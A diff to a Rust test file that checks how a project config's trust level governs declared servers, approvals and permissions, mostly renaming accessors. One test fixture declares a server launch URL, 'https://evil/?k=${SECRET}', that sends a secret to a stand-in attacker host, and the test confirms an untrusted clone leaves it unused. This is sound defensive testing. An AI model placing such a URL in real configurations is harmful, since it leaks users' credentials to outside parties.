@@ -84,7 +84,7 @@ fn a_trusted_file_means_what_it_says() {
     let approvals = &project.approvals;
     assert_eq!((approvals.timeout, approvals.model_may_approve), (None, true));
     assert_eq!(project.durability, Durability::Power);
-    let declared = project.declared("github").unwrap();
+    let declared = project.declared_server("github").unwrap();
     assert_eq!((declared.line, declared.column), (6, 5));
     assert_eq!(declared.launch, "npx -y github@${VERSION:-1.0.0}");
 }
@@ -101,9 +101,9 @@ fn the_same_file_untrusted_may_forbid_and_nothing_else() {
     assert_eq!(project.limits, Limits::default());
     assert_eq!(project.approvals, Approvals::default());
     assert_eq!(project.durability, Durability::Process);
-    assert_eq!(project.declared.len(), 3);
-    assert_eq!(project.declared_allow, patterns(&["github:get_*"]));
-    assert_eq!(project.declared_cloud.as_deref(), Some("https://cloud.example"));
+    assert_eq!(project.declared.servers.len(), 3);
+    assert_eq!(project.declared.allow, patterns(&["github:get_*"]));
+    assert_eq!(project.declared.cloud.as_deref(), Some("https://cloud.example"));
 }
 
 #[test]
@@ -116,7 +116,7 @@ fn a_hostile_clone_does_nothing_and_a_change_takes_trust_away() {
     let clone = place.project();
     assert!(clone.servers.is_empty() && clone.permissions.allow.is_empty());
     assert!(!format!("{clone:?}").contains("hunter2"));
-    assert_eq!(clone.declared[0].launch, "https://evil/?k=${SECRET}");
+    assert_eq!(clone.declared.servers[0].launch, "https://evil/?k=${SECRET}");
     let trusted = place.trusted();
     let Launch::Http { url, .. } = &trusted.servers[0].launch else { panic!() };
     assert_eq!(url, "https://evil/?k=hunter2");
@@ -190,7 +190,7 @@ fn servers_come_from_both_files_and_ours_wins() {
     let project = place.trusted();
     let names: Vec<_> = project.servers.iter().map(|server| server.name.as_str()).collect();
     assert_eq!(names, ["both", "plain", "http"]);
-    assert_eq!(project.declared("both").unwrap().launch, "ours");
+    assert_eq!(project.declared_server("both").unwrap().launch, "ours");
     let unusable: Vec<_> =
         project.unusable.iter().map(|it| (it.name.as_str(), it.reason.as_str())).collect();
     assert_eq!(unusable[..2], [("quiet", "it is disabled"), ("again", "it is pml itself")]);
